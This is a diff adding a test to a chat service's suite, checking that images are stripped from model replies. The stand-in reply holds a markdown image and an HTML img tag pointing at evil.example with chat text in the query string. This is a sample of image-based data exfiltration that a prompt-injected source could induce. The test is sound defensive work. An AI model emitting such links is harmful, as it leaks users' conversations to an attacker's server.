@@ -111,6 +111,15 @@ describe.each(['chat', 'responses'] as const)('CHAT_MODEL=openai:* over the %s A
     ]);
   });
 
+  it('strips images from the model’s output even if a source talked it into one (checklist 32)', async () => {
+    standin.options = { reply: 'Descale monthly [1]. ![x](https://evil.example/?q=your+chat) <img src="https://evil.example/p.png"> Done.' };
+    const id = await newConversation(key);
+    const { message } = await readReply(await send(key, id, { content: `How do I descale the kettle ${tag}?` }));
+    expect(textOf(message)).toBe('Descale monthly [1].   Done.');
+    const stored = await getConversation(key, id);
+    expect(JSON.stringify(stored.messages)).not.toContain('evil.example');
+  });
+
   it('cites nothing when the model cites nothing, and never a number that was not offered', async () => {
     standin.options = { reply: 'The knowledge base does not cover that [99].' };
     const id = await newConversation(key);
